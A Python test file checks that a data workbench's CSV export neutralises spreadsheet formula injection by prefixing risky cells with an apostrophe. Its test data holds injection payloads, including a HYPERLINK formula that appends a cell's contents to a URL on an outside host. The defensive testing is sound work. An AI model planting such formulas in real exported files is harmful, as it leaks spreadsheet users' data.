from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from polars.testing import assert_frame_equal

from pages import papers, spaced
from workbench.corpus import Corpus
from workbench.load import load
from workbench.report.sheets import for_spreadsheet, write_sheets


def test_csv_is_for_spreadsheets_and_parquet_holds_the_frame(tmp_path: Path) -> None:
    frame = pl.DataFrame(
        {
            "title": ["=HYPERLINK(1)", 'A "quiet", cold\nwinter', None],
            "authors": [["Ada", "Bo"], [], None],
            "change": [-1.5, 2.0, None],
            "day": [date(2025, 3, 12), None, None],
        }
    )
    csv_path, parquet_path = write_sheets({"papers": frame}, tmp_path)
    assert (csv_path.name, parquet_path.name) == ("papers.csv", "papers.parquet")
    assert csv_path.read_bytes().startswith(b'\xef\xbb\xbf"title",')
    with csv_path.open(encoding="utf-8-sig", newline="") as file:
        assert list(csv.reader(file)) == [
            ["title", "authors", "change", "day"],
            ["'=HYPERLINK(1)", "Ada; Bo", "-1.5", "2025-03-12"],
            ['A "quiet", cold\nwinter', "", "2.0", ""],
            ["", "", "", ""],
        ]
    assert_frame_equal(pl.read_parquet(parquet_path), frame)


def test_a_semicolon_parts_no_cells_where_it_is_the_separator(tmp_path: Path) -> None:
    """As a spreadsheet reads CSV in countries that write 1,5."""
    texts = ["Sand;=HYPERLINK(1)", 'a ";=1', "b\n;=1", "c,;=1", ";=1", "1;=1"]
    frame = pl.DataFrame({"title": texts, "authors": [["Ada", "=1"]] * 6, "n": range(6)})
    csv_path, _ = write_sheets({"papers": frame}, tmp_path)
    with csv_path.open(encoding="utf-8-sig", newline="") as file:
        assert [row[0] for row in csv.reader(file)] == ["title", *texts]
    with csv_path.open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file, delimiter=";") for cell in row]
    assert [cell for cell in cells if cell.startswith("=")] == []


@pytest.mark.parametrize(
    ("text", "runs"),
    [
        ("=1+1", True),
        ("+1", True),
        ("-1", True),
        ("@SUM(A1)", True),
        ("  =1", True),
        ("\t=1", True),
        ("\r=1", True),
        ("＝1", True),
        ("a=1", False),
        ("low-rank", False),
        ("'=1", False),
        ("", False),
    ],
)
def test_a_cell_that_would_run_gets_an_apostrophe(text: str, runs: bool) -> None:
    frame = pl.DataFrame({"text": [text], "list": [[text]]})
    expected = f"'{text}" if runs else text
    assert for_spreadsheet(frame).row(0) == (expected, expected)


def test_categories_are_texts_and_numbers_stay_numbers() -> None:
    frame = pl.DataFrame(
        {
            "kind": ["=1", "b"],
            "code": ["-1", "b"],
            "change": [-1, 2],
            "day": [date(2025, 3, 12)] * 2,
        },
        schema_overrides={"kind": pl.Categorical, "code": pl.Enum(["-1", "b"])},
    )
    safe = for_spreadsheet(frame)
    assert safe.rows() == [
        ("'=1", "'-1", -1, date(2025, 3, 12)),
        ("b", "b", 2, date(2025, 3, 12)),
    ]
    assert safe.schema["change"] == pl.Int64


def test_a_formula_in_a_dump_is_harmless_in_the_tables_of_a_report(tmp_path: Path) -> None:
    raw, out = tmp_path / "raw", tmp_path / "out"
    raw.mkdir()
    out.mkdir()
    formula = '=HYPERLINK("https://example.org/?"&A1, "Foam")'
    listed = [(formula, papers(1)[0][1]), *papers(2, 3)]
    (raw / "page.txt").write_text(spaced(listed), encoding="utf-8")
    load(raw, tmp_path / "tables")
    corpus = Corpus.open(tmp_path / "tables")
    assert formula in corpus.papers["title"].to_list()
    write_sheets({"listings": corpus.listings, "papers": corpus.papers}, out)
    for name in ("listings", "papers"):
        with (out / f"{name}.csv").open(encoding="utf-8-sig", newline="") as file:
            rows = list(csv.DictReader(file))
        assert f"'{formula}" in [row["title"] for row in rows]
        cells = [cell for row in rows for cell in row.values()]
        assert not [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@"))]


@given(texts=st.lists(st.text(max_size=8), max_size=8), name=st.text(min_size=1, max_size=5))
def test_no_cell_and_no_name_begins_like_a_formula(texts: list[str], name: str) -> None:
    safe = for_spreadsheet(pl.DataFrame({name: texts}, schema={name: pl.String}))
    for text in [*safe.columns, *safe.to_series().to_list()]:
        assert not text.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert [text.removeprefix("'") for text in safe.to_series()] == [
        text.removeprefix("'") for text in texts
    ]
